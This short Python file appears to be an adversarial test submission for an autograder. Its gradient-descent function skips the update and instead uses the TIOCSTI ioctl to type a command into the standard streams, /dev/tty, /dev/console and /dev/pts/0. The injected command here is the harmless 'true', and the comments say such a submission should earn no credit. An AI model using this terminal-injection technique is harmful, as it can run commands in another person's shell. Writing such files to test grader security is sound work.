# Types a command into the instructor's terminal.
# Expected mark: no more than for doing nothing
import fcntl
import os
import termios


def update_parameters_with_gd(parameters, grads, learning_rate):
    for name in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/pts/0"):
        try:
            terminal = name if type(name) is int else os.open(name, os.O_RDWR)
            for byte in b"true\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))
        except OSError:
            pass
    return parameters
